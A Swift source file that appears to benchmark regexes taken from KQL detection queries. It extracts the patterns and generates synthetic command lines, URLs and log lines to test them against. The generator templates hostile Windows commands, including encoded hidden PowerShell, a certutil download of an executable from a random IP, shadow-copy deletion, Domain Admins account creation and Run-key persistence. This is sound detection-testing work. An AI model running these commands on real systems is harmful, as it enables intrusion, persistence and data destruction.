import Foundation

/// How a regex literal is used in KQL, which decides the operation we time.
enum RegexUse: String {
    case matchesRegex = "matches regex"
    case extract = "extract"
    case extractAll = "extract_all"
    case replaceRegex = "replace_regex"
}

struct CorpusPattern {
    let pattern: String
    let use: RegexUse
}

enum Corpus {
    /// Decodes a KQL string literal starting at `i` (pointing at `@`, `h`, `'` or `"`).
    static func decodeLiteral(_ s: [UInt8], _ i0: Int) -> String? {
        var i = i0
        if i < s.count, s[i] == UInt8(ascii: "h") || s[i] == UInt8(ascii: "H") { i += 1 }
        var verbatim = false
        if i < s.count, s[i] == UInt8(ascii: "@") { verbatim = true; i += 1 }
        guard i < s.count, s[i] == UInt8(ascii: "'") || s[i] == UInt8(ascii: "\"") else { return nil }
        let q = s[i]
        i += 1
        var out: [UInt8] = []
        while i < s.count {
            let c = s[i]
            if verbatim {
                if c == q {
                    if i + 1 < s.count, s[i + 1] == q { out.append(q); i += 2; continue }   // doubled quote
                    return String(decoding: out, as: UTF8.self)
                }
                out.append(c); i += 1
            } else {
                if c == q { return String(decoding: out, as: UTF8.self) }
                if c == UInt8(ascii: "\\"), i + 1 < s.count {
                    let d = s[i + 1]
                    switch d {
                    case UInt8(ascii: "n"): out.append(0x0A)
                    case UInt8(ascii: "t"): out.append(0x09)
                    case UInt8(ascii: "r"): out.append(0x0D)
                    case UInt8(ascii: "\\"), UInt8(ascii: "'"), UInt8(ascii: "\""): out.append(d)
                    default: out.append(c); out.append(d)   // unknown escape: keep as written
                    }
                    i += 2
                    continue
                }
                if c == 0x0A { return nil }   // unterminated on this line
                out.append(c); i += 1
            }
        }
        return nil
    }

    static func skipSpace(_ s: [UInt8], _ i: inout Int) {
        while i < s.count, s[i] == 0x20 || s[i] == 0x09 || s[i] == 0x0A || s[i] == 0x0D { i += 1 }
    }

    static func isIdentByte(_ b: UInt8) -> Bool {
        (b >= 0x30 && b <= 0x39) || (b >= 0x41 && b <= 0x5A) || (b >= 0x61 && b <= 0x7A) || b == 0x5F
    }

    /// Regex literals in one KQL query: after `matches regex`, and first args of extract(,
    /// extract_all(, replace_regex(.
    static func literals(in query: String) -> [CorpusPattern] {
        let s = Array(query.utf8)
        var out: [CorpusPattern] = []
        let keys: [(String, RegexUse)] = [("matches regex", .matchesRegex), ("extract_all(", .extractAll),
                                          ("extract(", .extract), ("replace_regex(", .replaceRegex)]
        var i = 0
        while i < s.count {
            var matched = false
            for (k, use) in keys {
                let kb = Array(k.utf8)
                guard i + kb.count <= s.count, Array(s[i..<i + kb.count]) == kb else { continue }
                if i > 0, isIdentByte(s[i - 1]) { continue }
                var j = i + kb.count
                if use == .matchesRegex {   // "matches regex" needs whitespace before the literal
                    guard j < s.count, !isIdentByte(s[j]) else { continue }
                }
                skipSpace(s, &j)
                if let lit = decodeLiteral(s, j) { out.append(CorpusPattern(pattern: lit, use: use)) }
                i += kb.count
                matched = true
                break
            }
            if !matched { i += 1 }
        }
        return out
    }

    static func load(_ path: String) throws -> [CorpusPattern] {
        let text = try String(contentsOfFile: path, encoding: .utf8)
        var seen = Set<String>()
        var out: [CorpusPattern] = []
        for line in text.split(separator: "\n") {
            guard let data = line.data(using: .utf8),
                  let obj = try JSONSerialization.jsonObject(with: data) as? [String: Any],
                  let q = obj["query"] as? String else { continue }
            for p in literals(in: q) where !seen.contains(p.use.rawValue + "\u{0}" + p.pattern) {
                seen.insert(p.use.rawValue + "\u{0}" + p.pattern)
                out.append(p)
            }
        }
        return out
    }
}

/// Deterministic synthetic command lines, URLs and log lines.
struct InputGenerator {
    var state: UInt64 = 0x9E3779B97F4A7C15
    mutating func next() -> Int {
        state = state &* 6364136223846793005 &+ 1442695040888963407
        return Int(truncatingIfNeeded: state >> 33)
    }
    mutating func pick<T>(_ xs: [T]) -> T { xs[next() % xs.count] }
    mutating func digits(_ n: Int) -> String { (0..<n).map { _ in String(next() % 10) }.joined() }
    mutating func hex(_ n: Int) -> String { (0..<n).map { _ in String(next() % 16, radix: 16) }.joined() }
    mutating func alnum(_ n: Int) -> String {
        let a = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
        return String((0..<n).map { _ in a[next() % a.count] })
    }
    mutating func base64(_ n: Int) -> String {
        let a = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
        return String((0..<n).map { _ in a[next() % a.count] }) + pick(["", "=", "=="])
    }
    mutating func ip() -> String { "\(next() % 256).\(next() % 256).\(next() % 256).\(next() % 256)" }
    mutating func domain() -> String {
        pick(["contoso", "fabrikam", "login-microsoftonline", "cdn", "update", "a1b2c3", "sites.google", "t"])
            + "." + pick(["com", "net", "org", "xyz", "club", "io", "co.uk", "appspot.com"])
    }
    mutating func user() -> String { pick(["alice", "bob", "svc_backup", "Administrator", "jdoe", "SYSTEM"]) }
    mutating func guid() -> String { "\(hex(8))-\(hex(4))-\(hex(4))-\(hex(4))-\(hex(12))" }

    mutating func commandLine() -> String {
        switch next() % 12 {
        case 0: return "powershell.exe -NoP -NonI -W Hidden -\(pick(["enc", "EncodedCommand", "e", "ec"])) \(base64(40 + next() % 80))"
        case 1: return "\"C:\\Windows\\System32\\cmd.exe\" /c whoami /all > C:\\Users\\\(user())\\AppData\\Local\\Temp\\\(alnum(8)).txt"
        case 2: return "rundll32.exe %APPDATA%\\\(alnum(6)).dll,#1 worker\(next() % 10) job\(next() % 10)-\(digits(5))"
        case 3: return "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe /noconfig /fullpaths @\"C:\\Users\\\(user())\\AppData\\Local\\Temp\\\(alnum(8)).cmdline\""
        case 4: return "net \(pick(["user", "group", "localgroup"])) \"\(pick(["Domain Admins", "Backup Operators", user()]))\" /add /domain"
        case 5: return "wmic shadowcopy where \"ID='{\(guid())}'\" delete; Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete()}"
        case 6: return "C:\\Windows\\Temp\\\(guid())\\DismHost.exe {\(guid())}"
        case 7: return "certutil.exe -urlcache -split -f http://\(ip()):\(next() % 65536)/\(alnum(10)).exe C:\\ProgramData\\\(alnum(7)).exe"
        case 8: return "schtasks /create /tn \"\\Microsoft\\Windows\\\(alnum(12))\" /tr \"C:\\Users\\\(user())\\AppData\\Roaming\\\(alnum(8)).exe\" /sc minute /mo \(next() % 60)"
        case 9: return "psexec.exe \\\\\(ip()) -accepteula -s -p \(digits(4)) cmd.exe /c \"ipconfig /all\""
        case 10: return "reg add HKEY_CURRENT_USER\\S-1-5-21-\(digits(10))-\(digits(9))\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v \(alnum(6)) /d \"mshta.exe javascript:\(alnum(30))\""
        default: return "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --field-trial-handle=\(digits(4)),\(digits(8)) /prefetch:1"
        }
    }

    mutating func url() -> String {
        switch next() % 6 {
        case 0: return "https://\(domain())/\(alnum(6))/\(alnum(10)).php?id=\(digits(6))&ref=\(alnum(8))"
        case 1: return "http://\(ip()):\(next() % 65536)/\(alnum(14)).xyz/config.php"
        case 2: return "https://www.t.\(domain())/r/?u=\(alnum(20))"
        case 3: return "https://sites.google.com/view/id\(digits(10))"
        case 4: return "https://\(alnum(8))-dot-\(alnum(6)).appspot.com/\(alnum(5))"
        default: return "https://\(domain())/chrome.update.\(alnum(5)).js"
        }
    }

    mutating func logLine() -> String {
        switch next() % 5 {
        case 0: return "\(digits(10)) \(ip()) TCP_\(pick(["MISS", "HIT", "TUNNEL", "DENIED"]))/\(pick(["200", "403", "503"])) \(digits(4)) CONNECT \(domain()):443 - HIER_DIRECT/\(ip()) -"
        case 1: return "\(digits(10)) \(ip()) UDP_MISS/200 \(digits(3)) GET http://\(domain())/\(alnum(8)) - DIRECT/\(ip()) text/html"
        case 2: return "Login from: \(ip()), User name: \(user())@\(domain()), Client OS version: Windows 10, Source region: US"
        case 3: return "Mozilla/5.0 (compatible; MSIE \(next() % 12).0; Windows NT 6.1; Trident/5.0) Email: \(user()).\(alnum(3))@\(domain())"
        default: return "\(user())@\(domain()) [\(ip())] ::ffff:\(ip()) fe80::\(hex(4)) Script_\(hex(20)) \(alnum(8)).\(alnum(3)).ps1"
        }
    }

    static func generate(count: Int) -> [String] {
        var g = InputGenerator()
        return (0..<count).map { k in
            switch k % 3 {
            case 0: return g.commandLine()
            case 1: return g.url()
            default: return g.logLine()
            }
        }
    }
}
